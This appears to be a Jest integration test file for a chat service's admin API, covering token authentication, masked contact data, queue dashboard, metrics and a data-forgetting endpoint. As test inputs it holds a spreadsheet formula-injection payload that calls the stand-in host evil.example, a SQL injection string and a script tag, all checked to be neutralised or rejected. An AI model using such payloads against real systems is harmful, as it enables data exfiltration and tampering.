/**
 * The admin surface over HTTP: /api/admin and /admin/queues (bull-board) behind ADMIN_TOKEN (no
 * token configured: they do not exist), and /metrics in the Prometheus format.
 */
import { randomBytes } from 'node:crypto';
import { startFakeTelegram, type FakeTelegram } from '../helpers/fake-telegram';
import { startTestSystem, type TestSystem } from '../helpers/system';
import { TELEGRAM, converse, newPerson, writeContent } from '../feedback/harness';


const ADMIN_TOKEN = `adm_${randomBytes(24).toString('hex')}`;
const METRICS_TOKEN = `met_${randomBytes(16).toString('hex')}`;

async function get(system: TestSystem, path: string, headers: Record<string, string> = {}) {
  const res = await fetch(`${system.url}${path}`, { headers });
  const bytes = Buffer.from(await res.arrayBuffer());
  const text = bytes.toString('utf8');
  let body: any = text;
  try {
    body = JSON.parse(text);
  } catch {
    // not JSON
  }
  return { status: res.status, headers: res.headers, body, text, bytes };
}

const bearer = (token = ADMIN_TOKEN) => ({ authorization: `Bearer ${token}` });
const basic = (password: string, user = 'organizer') => ({ authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}` });

describe('no ADMIN_TOKEN configured: the admin surface does not exist', () => {
  let system: TestSystem;
  beforeAll(async () => {
    system = await startTestSystem('admin-off', writeContent(), { postgres: true, workers: false });
  });
  afterAll(() => system?.close());

  it.each([['/api/admin'], ['/api/admin/contacts'], ['/api/admin/feedback?format=csv'], ['/admin/queues'], ['/admin/queues/api/queues']])('%s → 404, whatever the token', async (path) => {
    expect((await get(system, path)).status).toBe(404);
    expect((await get(system, path, bearer())).status).toBe(404);
    expect((await get(system, path, bearer(''))).status).toBe(404);
  });

  it('/metrics is open when METRICS_TOKEN is not set', async () => {
    const res = await get(system, '/metrics');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/plain; version=0\.0\.4/);
  });
});

describe('with ADMIN_TOKEN', () => {
  let system: TestSystem;
  let telegram: FakeTelegram;
  const person = newPerson('web', 'en');
  let contactId: string;

  beforeAll(async () => {
    telegram = await startFakeTelegram({ token: TELEGRAM.TOKEN });
    system = await startTestSystem(
      'admin-on',
      { ...writeContent(), SIMULATOR: 'true', ADMIN_TOKEN, METRICS_TOKEN, TELEGRAM_BOT_TOKEN: TELEGRAM.TOKEN, TELEGRAM_WEBHOOK_SECRET: TELEGRAM.SECRET, TELEGRAM_API_URL: telegram.url, DEFAULT_TIMEZONE: 'America/New_York' },
      { postgres: true },
    );
    // Someone talks to us: a rating with a comment that is a formula, then asks for a person.
    expect(await converse(system, person, 'hello')).toEqual(['welcome.hello', 'menu.prompt']);
    expect(await converse(system, person, '2')).toEqual(['fb.ask']);
    expect(await converse(system, person, '3')).toEqual(['fb.comment']);
    expect(await converse(system, person, '=IMPORTXML("http://evil.example","//a")')).toEqual(['fb.thanks']);
    expect(await converse(system, person, 'AGENT')).toEqual(['handoff.queued']);
    contactId = (await system.runtime.db.kysely.selectFrom('identities').select('contact_id').where('address', '=', person.address).executeTakeFirstOrThrow()).contact_id;
  });
  afterAll(async () => {
    await system?.close();
    await telegram?.close();
  });

  describe('authentication', () => {
    it.each<[string, Record<string, string>, number]>([
      ['no Authorization header', {}, 401],
      ['a wrong token', bearer(`adm_${'0'.repeat(48)}`), 401],
      ['a wrong token of another length', bearer('x'), 401],
      ['the token with one character less', bearer(ADMIN_TOKEN.slice(0, -1)), 401],
      ['the metrics token', bearer(METRICS_TOKEN), 401],
      ['the token as Basic (the API takes Bearer only)', basic(ADMIN_TOKEN), 401],
      ['the right token', bearer(), 200],
      ['the right token, scheme in lower case', { authorization: `bearer ${ADMIN_TOKEN}` }, 200],
    ])('%s → %i', async (_name, headers, status) => {
      const res = await get(system, '/api/admin/contacts', headers);
      expect(res.status).toBe(status);
      if (status === 401) {
        expect(res.headers.get('www-authenticate')).toMatch(/^Bearer/);
        expect(res.body).toEqual({ error: 'unauthorized' });
      }
    });

    it('the token in the query string is not accepted', async () => {
      expect((await get(system, `/api/admin/contacts?token=${ADMIN_TOKEN}`)).status).toBe(401);
    });

    it('answers are not cached', async () => {
      expect((await get(system, '/api/admin/contacts', bearer())).headers.get('cache-control')).toBe('no-store');
    });
  });

  it('GET /api/admin lists the resources mounted', async () => {
    const res = await get(system, '/api/admin', bearer());
    expect(res.body.resources).toEqual(
      expect.arrayContaining(['GET /api/admin/contacts', 'GET /api/admin/contacts/:ref', 'POST /api/admin/contacts/:ref/forget', 'GET /api/admin/tickets', 'GET /api/admin/feedback', 'GET /api/admin/engagement', 'GET /api/admin/digest']),
    );
  });

  it('contacts: a list with masked addresses, a lookup, everything about one', async () => {
    const list = await get(system, '/api/admin/contacts', bearer());
    const listed = list.body.contacts.find((c: any) => c.id === contactId);
    expect(listed.identities).toEqual([expect.objectContaining({ channel: 'web', address: `********${person.address.slice(-4)}`, opted_out: false })]);
    expect(list.text).not.toContain(person.address);

    const found = await get(system, `/api/admin/contacts?q=${encodeURIComponent(`web:${person.address}`)}`, bearer());
    expect(found.body.contacts.map((c: any) => c.id)).toEqual([contactId]);
    expect((await get(system, `/api/admin/contacts?q=${encodeURIComponent('.*')}`, bearer())).status).toBe(400);
    expect((await get(system, `/api/admin/contacts?q=${encodeURIComponent("' OR 1=1 --")}`, bearer())).status).toBe(400);

    const all = await get(system, `/api/admin/contacts/${contactId}`, bearer());
    expect(all.status).toBe(200);
    expect(all.body.identities[0].address).toBe(person.address);
    expect(all.body.messages.filter((m: any) => m.direction === 'in').map((m: any) => m.body)).toEqual(['hello', '2', '3', '=IMPORTXML("http://evil.example","//a")', 'AGENT']);
    expect(all.body.feedback).toEqual([expect.objectContaining({ rating: 3, comment: '=IMPORTXML("http://evil.example","//a")' })]);
    expect(all.body.tickets).toHaveLength(1);
    expect((await get(system, '/api/admin/contacts/00000000-0000-4000-8000-000000000000', bearer())).status).toBe(404);
  });

  it('tickets: open requests for a person, with masked addresses', async () => {
    const res = await get(system, '/api/admin/tickets', bearer());
    expect(res.body.tickets).toEqual([expect.objectContaining({ contact_id: contactId, flow_id: 'handoff', status: 'open', channel: 'web', language: 'en' })]);
    expect(res.text).not.toContain(person.address);
    const one = await get(system, `/api/admin/tickets/${res.body.tickets[0].id}`, bearer());
    expect(one.body.id).toBe(res.body.tickets[0].id);
    expect((await get(system, '/api/admin/tickets/99999', bearer())).status).toBe(404);
    expect((await get(system, '/api/admin/tickets?status=closed', bearer())).body.tickets).toEqual([]);
  });

  it('feedback: the same export as the CLI, CSV neutralized', async () => {
    const csv = await get(system, '/api/admin/feedback?since=1d&format=csv', bearer());
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="feedback-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 byte-order mark, for Excel
    expect(csv.text).toContain(`,3,,"'=IMPORTXML(""http://evil.example"",""//a"")",,web,en`);
    const json = await get(system, '/api/admin/feedback?since=1d', bearer());
    expect(json.body.feedback).toEqual([expect.objectContaining({ flow: 'fb', rating: 3, comment: '=IMPORTXML("http://evil.example","//a")' })]);
    expect((await get(system, '/api/admin/feedback?since=1d&flow=nope', bearer())).body.count).toBe(0);
  });

  it.each([
    ['/api/admin/feedback?since=yesterday', /not a date/],
    ['/api/admin/feedback?format=xlsx', /format must be csv or json/],
    ['/api/admin/feedback?flow=Robert%27);DROP', /lower_snake_case/],
    ['/api/admin/feedback?since=1d&until=2d', /since must be before until/],
    ['/api/admin/engagement?since=%3Cscript%3E', /not a date/],
  ])('%s → 400', async (path, message) => {
    const res = await get(system, path, bearer());
    expect(res.status).toBe(400);
    expect(res.body.error).toMatch(message);
  });

  it('engagement by language and channel', async () => {
    const res = await get(system, '/api/admin/engagement?since=1d', bearer());
    expect(res.body.communities).toEqual([expect.objectContaining({ channel: 'web', language: 'en', people: 1, inbound: 5 })]);
    expect(res.body.total).toMatchObject({ channel: 'all', language: 'all', people: 1 });
  });

  it('the digest: a preview; posting needs DIGEST_CHANNEL', async () => {
    const res = await get(system, '/api/admin/digest', bearer());
    expect(res.body.text).toContain('*1 response*');
    expect(res.body.text).toContain('“=IMPORTXML("http://evil.example","//a")”');
    const post = await fetch(`${system.url}/api/admin/digest`, { method: 'POST', headers: bearer() });
    expect(post.status).toBe(409);
  });

  describe('/admin/queues (bull-board)', () => {
    it('asks a browser for the token (Basic), and refuses a wrong one', async () => {
      const none = await get(system, '/admin/queues');
      expect(none.status).toBe(401);
      expect(none.headers.get('www-authenticate')).toMatch(/^Basic realm=/);
      expect((await get(system, '/admin/queues', basic('wrong'))).status).toBe(401);
      expect((await get(system, '/admin/queues/api/queues', bearer('wrong'))).status).toBe(401);
    });

    it('serves the dashboard and its API with the token', async () => {
      const page = await get(system, '/admin/queues', basic(ADMIN_TOKEN));
      expect(page.status).toBe(200);
      expect(page.headers.get('content-type')).toMatch(/text\/html/);
      const api = await get(system, '/admin/queues/api/queues', bearer());
      expect(api.status).toBe(200);
      const names = api.body.queues.map((q: any) => q.name);
      expect(names).toEqual(expect.arrayContaining(['inbound', 'timers', 'outbound-web', 'outbound-telegram', 'reports', 'privacy']));
      // An action through the board, as its page makes it (same origin; cross-site writes: queue-board.test.ts). Its routes parse their own JSON; the rest of the server keeps raw bodies.
      const pause = await fetch(`${system.url}/admin/queues/api/queues/reports/pause`, { method: 'PUT', headers: { ...bearer(), origin: system.url! } });
      expect(pause.status).toBeLessThan(300);
      expect(await system.runtime.queues.get('reports').isPaused()).toBe(true);
      const resume = await fetch(`${system.url}/admin/queues/api/queues/reports/resume`, { method: 'PUT', headers: { ...bearer(), origin: system.url! } });
      expect(resume.status).toBeLessThan(300);
      expect(await system.runtime.queues.get('reports').isPaused()).toBe(false);
    });
  });

  describe('/metrics', () => {
    it('needs METRICS_TOKEN when it is set', async () => {
      expect((await get(system, '/metrics')).status).toBe(401);
      expect((await get(system, '/metrics', bearer())).status).toBe(401);
    });

    it('messages by channel and status, queue depths, send latency, webhook rejects', async () => {
      const bad = await fetch(`${system.url}/webhooks/telegram`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-telegram-bot-api-secret-token': 'wrong' }, body: '{}' });
      expect(bad.status).toBe(401);
      const badSim = await fetch(`${system.url}/simulator/api/messages`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"session":"x"}' });
      expect(badSim.status).toBe(400);
      const res = await get(system, '/metrics', bearer(METRICS_TOKEN));
      expect(res.status).toBe(200);
      const m = res.text;
      expect(m).toMatch(/^ce_messages\{channel="web",direction="in",status="processed"\} 5$/m);
      expect(m).toMatch(/^ce_messages\{channel="web",direction="out",status="delivered"\} 6$/m);
      expect(m).toMatch(/^ce_queue_jobs\{queue="inbound",state="waiting"\} \d+$/m);
      expect(m).toMatch(/^ce_queue_jobs\{queue="outbound-telegram",state="failed"\} 0$/m);
      expect(m).toMatch(/^ce_send_duration_seconds_count\{channel="web",outcome="sent"\} 6$/m);
      expect(m).toMatch(/^ce_send_delay_seconds_bucket\{le="\+Inf",channel="web",kind="reply"\} 6$/m);
      expect(m).toMatch(/^ce_webhook_rejects_total\{channel="telegram",status="401"\} 1$/m);
      expect(m).toMatch(/^ce_webhook_rejects_total\{channel="web",status="400"\} 1$/m);
      expect(m).toMatch(/^ce_process_resident_memory_bytes /m);
      expect(m).not.toContain(person.address);
    });
  });

  it('forget over the API: the person is gone', async () => {
    const res = await fetch(`${system.url}/api/admin/contacts/${contactId}/forget`, { method: 'POST', headers: bearer() });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ forgotten: true, identities: 1, messages: 11, feedbackComments: 1, tickets: 1 });
    expect((await get(system, `/api/admin/contacts/${contactId}`, bearer())).status).toBe(404);
    expect((await get(system, `/api/admin/contacts?q=${encodeURIComponent(`web:${person.address}`)}`, bearer())).body.contacts).toEqual([]);
  });
});
